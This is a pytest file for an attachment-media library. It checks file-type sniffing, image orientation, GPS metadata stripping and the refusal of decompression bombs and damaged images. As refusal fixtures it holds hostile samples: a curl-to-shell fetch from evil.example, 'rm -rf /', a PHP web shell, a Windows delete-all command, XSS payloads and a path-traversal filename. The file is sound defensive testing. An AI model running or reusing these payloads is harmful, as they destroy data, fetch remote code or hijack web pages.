"""The media rules of attachments on real bytes made here: what is accepted and refused (from the
content, never the name), upright renditions, no location in anything served, bombs refused from the
header with bounded memory, damaged images refused with a reason."""

from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import ExifTags, Image, JpegImagePlugin
from PIL import _imaging as pil_core

from rivet_attachments.media import (
    Kind,
    Renditions,
    Sniffed,
    TooLarge,
    Unsupported,
    render,
    sniff,
)

RED, GREEN, BLUE, WHITE = (255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 255)
MAX_PIXELS = 50_000_000


# ---------------------------------------------------------------- makers


def quadrants(width: int, height: int) -> Image.Image:
    """Top left red, top right green, bottom left blue, bottom right white."""
    image = Image.new("RGB", (width, height), WHITE)
    image.paste(RED, (0, 0, width // 2, height // 2))
    image.paste(GREEN, (width // 2, 0, width, height // 2))
    image.paste(BLUE, (0, height // 2, width // 2, height))
    return image


def gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "RivetCam"
    exif[ExifTags.Base.Model] = "Nameplate 1"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (52.0, 31.0, 12.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (13.0, 24.0, 36.0)
    return exif


XMP_WITH_GPS = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
    'syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    'exif:GPSLatitude="52,31.2N" exif:GPSLongitude="13,24.6E"/></rdf:RDF></x:xmpmeta>'
)


def jpeg(image: Image.Image, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=92, **params)
    return out.getvalue()


def png(image: Image.Image, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format="PNG", **params)
    return out.getvalue()


def encoded(image: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **params)
    return out.getvalue()


def zipped(entries: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, body) in enumerate(entries):
            kind = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, body, compress_type=kind)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A valid PNG header claiming width x height, with a few bytes of compressed zeros."""

    def chunk(tag: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
        + chunk(b"IEND", b"")
    )


def decoded(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def close_to(pixel: object, colour: tuple[int, int, int], tolerance: int = 40) -> bool:
    assert isinstance(pixel, tuple)
    return all(abs(int(a) - b) <= tolerance for a, b in zip(pixel[:3], colour, strict=True))


def no_location(data: bytes) -> None:
    image = decoded(data)
    assert ExifTags.IFD.GPSInfo not in image.getexif()
    for marker in (b"GPSLatitude", b"GPSLongitude", b"exif:GPS"):
        assert marker not in data
    # the latitude as EXIF rationals (52/1, 31/1, 125/10) must not survive anywhere either
    assert struct.pack(">II", 125, 10) not in data
    assert struct.pack("<II", 125, 10) not in data


# ---------------------------------------------------------------- sniff: accepted


@pytest.mark.parametrize(
    ("fmt", "content_type", "extension"),
    [
        ("JPEG", "image/jpeg", ".jpg"),
        ("PNG", "image/png", ".png"),
        ("GIF", "image/gif", ".gif"),
        ("WEBP", "image/webp", ".webp"),
        ("AVIF", "image/avif", ".avif"),
    ],
)
def test_photos_are_told_by_their_bytes_whatever_their_name(
    fmt: str, content_type: str, extension: str
) -> None:
    data = encoded(quadrants(64, 48), fmt)
    for name in (None, f"photo{extension}", "photo.jpg", "photo.txt", "noext"):
        assert sniff(data, name) == Sniffed(content_type, extension, Kind.IMAGE)


def test_pdf() -> None:
    data = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer <<>>\n%%EOF\n"
    assert sniff(data, "manual.pdf") == Sniffed("application/pdf", ".pdf", Kind.PDF)
    with pytest.raises(Unsupported):
        sniff(b"<html>" + data, "manual.pdf")


@pytest.mark.parametrize(
    ("main_part", "content_type", "extension"),
    [
        (
            "word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ".docx",
        ),
        (
            "xl/workbook.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            ".xlsx",
        ),
        (
            "ppt/presentation.xml",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            ".pptx",
        ),
    ],
)
def test_office_open_xml_is_told_by_its_main_part(
    main_part: str, content_type: str, extension: str
) -> None:
    data = zipped(
        [("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", b"<R/>"), (main_part, b"<x/>")]
    )
    # the name does not matter: a .docx named .zip or .jpg is still the document it is
    for name in ("report" + extension, "report.zip", "report.jpg", None):
        assert sniff(data, name) == Sniffed(content_type, extension, Kind.OFFICE)


def test_open_document_is_told_by_its_mimetype_entry() -> None:
    data = zipped(
        [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<x/>")],
        stored_first=True,
    )
    assert sniff(data, "plan.ods") == Sniffed(
        "application/vnd.oasis.opendocument.spreadsheet", ".ods", Kind.OFFICE
    )


@pytest.mark.parametrize(
    ("data", "name", "content_type", "extension"),
    [
        (b"Replaced the bearing on pump P-12.\nTorque 45 Nm.\n", "notes.txt", "text/plain", ".txt"),
        ("Lager getauscht, Drehmoment 45 Nm. Temp 60 °C\r\n".encode(), None, "text/plain", ".txt"),
        (b"\xef\xbb\xbfasset,reading\nP-12,45\n", "readings.csv", "text/csv", ".csv"),
        (
            b"# Checklist\n\n- Class F: insulation ok\n- import from stores\n",
            "c.md",
            "text/markdown",
            ".md",
        ),
        (b"line one\n\tindented\x0cnext page\n", "x.log", "text/plain", ".txt"),
    ],
)
def test_plain_text(data: bytes, name: str | None, content_type: str, extension: str) -> None:
    assert sniff(data, name) == Sniffed(f"{content_type}; charset=utf-8", extension, Kind.TEXT)


# ---------------------------------------------------------------- sniff: refused


SCRIPTS = {
    "shell": b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
    "python": b"import os\nos.system('rm -rf /')\n",
    "python from": b"from subprocess import run\nrun(['id'])\n",
    "javascript": b"const cp = require('child_process');\ncp.exec('id');\n",
    "js function": b"function pwn() { fetch('/api/admin') }\npwn();\n",
    "php": b"<?php system($_GET['c']); ?>\n",
    "batch": b"@ECHO OFF\r\ndel /q C:\\*\r\n",
    "powershell": b"param($x)\nInvoke-WebRequest http://evil.example\n",
}


@pytest.mark.parametrize("script", sorted(SCRIPTS))
@pytest.mark.parametrize("name", ["photo.jpg", "notes.txt", None])
def test_a_script_is_refused_whatever_its_name(script: str, name: str | None) -> None:
    with pytest.raises(Unsupported) as refused:
        sniff(SCRIPTS[script], name)
    assert "not accepted" in refused.value.reason


def test_text_named_as_a_photo_or_a_program_is_refused() -> None:
    with pytest.raises(Unsupported, match=r"named as a \.jpg file but holds text"):
        sniff(b"just some words\n", "photo.jpg")
    with pytest.raises(Unsupported, match=r"named as a program or markup \(\.sh\)"):
        sniff(b"just some words\n", "setup.sh")


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><html><body>hi</body></html>",
        b"  <html><script>alert(1)</script></html>",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"Meeting notes\nsee <script src=//evil.example/x.js></script>\n",
        b'Notes\n<a href="javascript:alert(1)">click</a>\n',
        b"Notes\n<IMG SRC=x onerror=alert(1)>\n",
    ],
)
def test_markup_is_refused_as_text(data: bytes) -> None:
    with pytest.raises(Unsupported, match="markup"):
        sniff(data, "notes.txt")


@pytest.mark.parametrize(
    ("data", "named"),
    [
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 120, "ELF"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, "recognised as"),
        (b"\xca\xfe\xba\xbe" + b"\x00" * 120, ""),
        (b"\x1f\x8b\x08\x00" + b"\x00" * 60, ""),
        (b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60, ""),
        (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 60, ""),
        (b"\x00\x00\x00\x00\xff\xfe\x00binary", ""),
        ("Latin-1 text: Temperatur 60 \xb0C\n".encode("latin-1"), ""),
    ],
)
def test_executables_archives_and_unknown_binaries_are_refused(data: bytes, named: str) -> None:
    with pytest.raises(Unsupported) as refused:
        sniff(data, "photo.jpg")
    assert "not accepted" in refused.value.reason
    assert named in refused.value.reason


def test_other_zip_archives_and_macro_documents_are_refused() -> None:
    with pytest.raises(Unsupported, match="archives are not accepted"):
        sniff(zipped([("a.txt", b"a"), ("b.exe", b"MZ")]), "docs.docx")
    macro = zipped(
        [
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<x/>"),
            ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        ]
    )
    with pytest.raises(Unsupported, match="macro-enabled"):
        sniff(macro, "report.docx")
    odf_other = zipped([("mimetype", b"application/x-evil"), ("x", b"y")], stored_first=True)
    with pytest.raises(Unsupported, match="OpenDocument file of a kind not accepted"):
        sniff(odf_other, "x.odt")
    with pytest.raises(Unsupported, match="damaged or incomplete ZIP"):
        sniff(b"PK\x03\x04" + b"\x00" * 40, "x.docx")


def test_legacy_office_is_refused_with_what_to_do() -> None:
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    with pytest.raises(Unsupported, match=r"legacy Office file.*save it as \.docx"):
        sniff(ole2, "report.doc")


def test_heic_is_refused_with_what_to_do_when_pillow_cannot_read_it() -> None:
    ftyp = struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"
    data = ftyp + b"\x00" * 200
    with pytest.raises(Unsupported, match=r"HEIC/HEIF photo.*export the photo as JPEG"):
        sniff(data, "IMG_0001.HEIC")
    video = struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00" + b"isomiso2"
    with pytest.raises(Unsupported, match="video"):
        sniff(video + b"\x00" * 200, "clip.jpg")


def test_utf16_text_is_refused_with_what_to_do() -> None:
    with pytest.raises(Unsupported, match=r"UTF-16.*save it as UTF-8"):
        sniff("Notes\r\n".encode("utf-16"), "notes.txt")


def test_empty_file_is_refused() -> None:
    with pytest.raises(Unsupported, match="empty"):
        sniff(b"", "x.jpg")


def test_the_name_in_a_message_is_printable() -> None:
    with pytest.raises(Unsupported) as refused:
        sniff(b"\x7fELF" + b"\x00" * 60, "../../evil\x1b[31m\nname.jpg")
    assert "\x1b" not in refused.value.reason
    assert "\n" not in refused.value.reason
    assert "'evil[31mname.jpg'" in refused.value.reason


# ---------------------------------------------------------------- render: orientation


# how each EXIF orientation shows the stored quadrants (TL, TR, BL, BR) once upright
UPRIGHT = {
    1: (RED, GREEN, BLUE, WHITE),
    3: (WHITE, BLUE, GREEN, RED),
    6: (BLUE, RED, WHITE, GREEN),
    8: (GREEN, WHITE, RED, BLUE),
}


def corners(image: Image.Image) -> tuple[object, ...]:
    w, h = image.size
    x1, x2, y1, y2 = w // 4, 3 * w // 4, h // 4, 3 * h // 4
    return tuple(image.convert("RGB").getpixel(p) for p in ((x1, y1), (x2, y1), (x1, y2), (x2, y2)))


@pytest.mark.parametrize("orientation", sorted(UPRIGHT))
@pytest.mark.parametrize("size", [(400, 200), (4000, 3000)])
def test_exif_orientation_is_applied(orientation: int, size: tuple[int, int]) -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    data = jpeg(quadrants(*size), exif=exif)

    out = render(data, max_pixels=MAX_PIXELS)

    turned = orientation in (6, 8)
    w, h = (size[1], size[0]) if turned else size
    assert (out.width, out.height) == (w, h)
    for rendition, side in ((out.screen, 1600), (out.thumbnail, 256)):
        image = decoded(rendition)
        assert image.format == "JPEG"
        assert max(image.size) == min(side, max(w, h))
        assert (image.width > image.height) == (w > h)
        assert ExifTags.Base.Orientation not in image.getexif()
        for got, want in zip(corners(image), UPRIGHT[orientation], strict=True):
            assert close_to(got, want), (orientation, corners(image))


def test_a_large_jpeg_is_decoded_at_reduced_scale(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[tuple[int, int]] = []
    original = JpegImagePlugin.JpegImageFile.draft

    def spy(self: JpegImagePlugin.JpegImageFile, mode: str | None, size: tuple[int, int] | None):  # type: ignore[no-untyped-def]
        result = original(self, mode, size)
        if result is not None:  # None: already decoded, nothing changed
            asked.append(self.size)
        return result

    monkeypatch.setattr(JpegImagePlugin.JpegImageFile, "draft", spy)
    render(jpeg(quadrants(4000, 3000)), max_pixels=MAX_PIXELS)
    assert asked == [(2000, 1500)]  # 1/2 scale: the smallest not below 1600 on the long side


def test_render_memory_of_a_24_megapixel_photo_stays_well_below_a_full_decode(
    tmp_path: Path,
) -> None:
    # a full decode of 6000 x 4000 is 96 MB (Pillow keeps RGB in 4 bytes); at 1/2 scale, 24 MB
    photo = tmp_path / "big.jpg"
    photo.write_bytes(jpeg(quadrants(6000, 4000).resize((6000, 4000)), exif=gps_exif(6)))
    # VmHWM, the peak resident size of the process image, starts afresh at exec (ru_maxrss would
    # carry this test process's peak over into the child)
    program = (
        "import io, json, pathlib, sys\n"
        "from PIL import Image\n"
        "from rivet_attachments.media import render, sniff\n"
        "def hwm():\n"
        "    status = pathlib.Path('/proc/self/status').read_text()\n"
        "    return int(status.split('VmHWM:')[1].split()[0])\n"
        "warm = io.BytesIO(); Image.new('RGB', (64, 48)).save(warm, 'JPEG')\n"
        "render(warm.getvalue(), max_pixels=10_000)\n"
        "data = open(sys.argv[1], 'rb').read()\n"
        "before = hwm()\n"
        "sniff(data, 'big.jpg'); out = render(data, max_pixels=50_000_000)\n"
        "print(json.dumps({'delta_kb': hwm() - before, 'size': [out.width, out.height]}))\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", program, str(photo)], capture_output=True, text=True, check=True
    )
    result = json.loads(run.stdout)
    assert result["size"] == [4000, 6000]
    assert result["delta_kb"] < 60_000, result  # measured 43 MB; 125 MB without the 1/2 decode


# ---------------------------------------------------------------- render: location


def test_gps_is_gone_from_every_output_of_a_jpeg_and_the_original_is_not_recompressed() -> None:
    data = jpeg(quadrants(800, 600), exif=gps_exif(6), xmp=XMP_WITH_GPS.encode())
    assert ExifTags.IFD.GPSInfo in decoded(data).getexif()  # the test photo has what it should
    assert b"GPSLatitude" in data

    out = render(data, max_pixels=MAX_PIXELS)

    assert out.original_clean is not None
    for served in (out.thumbnail, out.screen, out.original_clean):
        no_location(served)
    for rendition in (out.thumbnail, out.screen):
        assert len(decoded(rendition).getexif()) == 0  # no EXIF at all on renditions
    clean = decoded(out.original_clean)
    kept = clean.getexif()
    assert kept[ExifTags.Base.Make] == "RivetCam"
    assert kept[ExifTags.Base.Orientation] == 6  # still shown upright by what reads it
    # the compressed image itself is untouched: same pixels, same scan bytes
    assert clean.tobytes() == decoded(data).tobytes()
    scan = data.index(b"\xff\xda")
    assert out.original_clean.endswith(data[scan:])


def test_an_original_without_location_is_kept_byte_for_byte() -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 3
    exif[ExifTags.Base.Make] = "RivetCam"
    out = render(jpeg(quadrants(300, 200), exif=exif), max_pixels=MAX_PIXELS)
    assert out.original_clean is None
    out = render(png(quadrants(300, 200)), max_pixels=MAX_PIXELS)
    assert out.original_clean is None


def test_gps_only_in_xmp_is_found_and_removed() -> None:
    data = jpeg(quadrants(300, 200), xmp=XMP_WITH_GPS.encode())
    out = render(data, max_pixels=MAX_PIXELS)
    assert out.original_clean is not None
    for served in (out.thumbnail, out.screen, out.original_clean):
        no_location(served)
    assert decoded(out.original_clean).tobytes() == decoded(data).tobytes()


@pytest.mark.parametrize("fmt", ["PNG", "WEBP", "AVIF"])
def test_gps_is_gone_from_a_png_webp_or_avif_original(fmt: str) -> None:
    data = encoded(
        quadrants(300, 200), fmt, exif=gps_exif(1), **({"lossless": True} if fmt == "WEBP" else {})
    )
    assert ExifTags.IFD.GPSInfo in decoded(data).getexif()

    out = render(data, max_pixels=MAX_PIXELS)

    assert out.original_clean is not None
    clean = decoded(out.original_clean)
    assert clean.format == fmt
    for served in (out.thumbnail, out.screen, out.original_clean):
        no_location(served)
    if fmt == "PNG":
        assert clean.convert("RGB").tobytes() == decoded(data).convert("RGB").tobytes()


# ---------------------------------------------------------------- render: bombs and damage


def test_a_png_claiming_50000_by_50000_is_refused_before_decoding() -> None:
    bomb = png_claiming(50_000, 50_000)
    assert len(bomb) < 200
    assert sniff(bomb, "x.png").kind is Kind.IMAGE
    blocks_before = pil_core.get_stats()["new_count"]
    tracemalloc.start()
    try:
        with pytest.raises(TooLarge) as refused:
            render(bomb, max_pixels=MAX_PIXELS)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "2500000000 pixels" in refused.value.reason
    assert peak < 1_000_000, peak  # a decode would need 7.5 GB
    assert pil_core.get_stats()["new_count"] == blocks_before  # no image memory at all


def test_a_real_image_over_the_limit_is_refused() -> None:
    with pytest.raises(TooLarge, match=r"3000x2000 pixels \(6.0 megapixels\); at most 5.0"):
        render(jpeg(quadrants(3000, 2000)), max_pixels=5_000_000)
    render(jpeg(quadrants(2000, 2000)), max_pixels=5_000_000)


def test_pillows_own_limit_counts_when_lower(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100_000)
    with pytest.warns(Image.DecompressionBombWarning), pytest.raises(TooLarge):
        render(jpeg(quadrants(400, 300)), max_pixels=MAX_PIXELS)  # 1.2x: Pillow would only warn


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "GIF", "WEBP"])
def test_a_truncated_image_is_refused_with_its_reason(fmt: str) -> None:
    noisy = Image.effect_noise((600, 400), 60).convert("RGB")
    data = encoded(noisy, fmt)
    with pytest.raises(Unsupported) as refused:
        render(data[: len(data) // 2], max_pixels=MAX_PIXELS)
    assert "damaged" in refused.value.reason or "truncated" in refused.value.reason


def test_a_script_behind_a_jpeg_signature_is_refused_by_render() -> None:
    data = b"\xff\xd8\xff" + SCRIPTS["shell"]
    assert sniff(data, "photo.jpg").kind is Kind.IMAGE
    with pytest.raises(Unsupported, match=r"could not be read|damaged"):
        render(data, max_pixels=MAX_PIXELS)


# ---------------------------------------------------------------- render: formats and modes


def test_a_transparent_png_gives_png_renditions_with_their_transparency() -> None:
    image = Image.new("RGBA", (800, 400), (255, 0, 0, 255))
    image.paste((0, 0, 0, 0), (400, 0, 800, 400))
    out = render(png(image), max_pixels=MAX_PIXELS)
    assert out.rendition_content_type == "image/png"
    for rendition in (out.thumbnail, out.screen):
        shown = decoded(rendition)
        assert shown.format == "PNG"
        assert shown.mode == "RGBA"
        assert shown.getpixel((shown.width // 4, shown.height // 2)) == (255, 0, 0, 255)
        assert shown.getpixel((3 * shown.width // 4, shown.height // 2))[3] == 0  # type: ignore[index]


def test_an_opaque_rgba_png_gives_jpeg_renditions() -> None:
    out = render(png(quadrants(300, 200).convert("RGBA")), max_pixels=MAX_PIXELS)
    assert out.rendition_content_type == "image/jpeg"
    assert decoded(out.thumbnail).format == "JPEG"


def test_an_animated_gif_renders_its_first_frame() -> None:
    frames = [Image.new("P", (120, 80), 0), Image.new("P", (120, 80), 1)]
    for frame in frames:
        frame.putpalette([255, 0, 0, 0, 0, 255] + [0] * 762)
    out = io.BytesIO()
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], duration=100)
    rendered = render(out.getvalue(), max_pixels=MAX_PIXELS)
    assert close_to(decoded(rendered.screen).getpixel((60, 40)), RED)


def test_a_gif_with_a_transparent_colour_gives_png() -> None:
    frame = Image.new("P", (100, 50), 0)
    frame.putpalette([0, 255, 0, 0, 0, 0] + [0] * 762)
    frame.paste(1, (50, 0, 100, 50))
    out = io.BytesIO()
    frame.save(out, format="GIF", transparency=1)
    rendered = render(out.getvalue(), max_pixels=MAX_PIXELS)
    assert rendered.rendition_content_type == "image/png"
    assert decoded(rendered.screen).getpixel((75, 25))[3] == 0  # type: ignore[index]


def test_cmyk_grey_and_16_bit_images_render() -> None:
    cmyk = jpeg(quadrants(200, 100).convert("CMYK"))
    grey = png(quadrants(200, 100).convert("L"))
    deep = png(Image.linear_gradient("L").resize((256, 256)).convert("I;16"))
    for data in (cmyk, grey, deep):
        out = render(data, max_pixels=MAX_PIXELS)
        shown = decoded(out.screen)
        assert shown.format == "JPEG"
        assert shown.mode in ("RGB", "L")
    assert close_to(corners(decoded(render(cmyk, max_pixels=MAX_PIXELS).screen))[0], RED, 60)


def test_small_images_are_not_upscaled_and_sizes_are_bounded() -> None:
    out = render(jpeg(quadrants(120, 90)), max_pixels=MAX_PIXELS)
    assert decoded(out.screen).size == (120, 90)
    assert decoded(out.thumbnail).size == (120, 90)
    out = render(jpeg(quadrants(3000, 1000)), max_pixels=MAX_PIXELS, thumb=100, screen=600)
    assert decoded(out.screen).size == (600, 200)
    assert decoded(out.thumbnail).size == (100, 33)
    assert isinstance(out, Renditions)
    with pytest.raises(ValueError, match="sizes"):
        render(jpeg(quadrants(10, 10)), max_pixels=MAX_PIXELS, thumb=300, screen=200)
